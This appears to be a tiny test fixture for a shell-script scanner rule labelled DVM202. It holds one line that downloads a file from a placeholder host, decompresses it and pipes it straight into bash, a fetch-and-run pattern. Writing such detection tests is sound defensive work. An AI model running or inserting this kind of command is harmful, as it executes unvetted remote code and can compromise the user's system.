# expect: DVM202
curl -s https://x.example.org/a | gunzip | bash
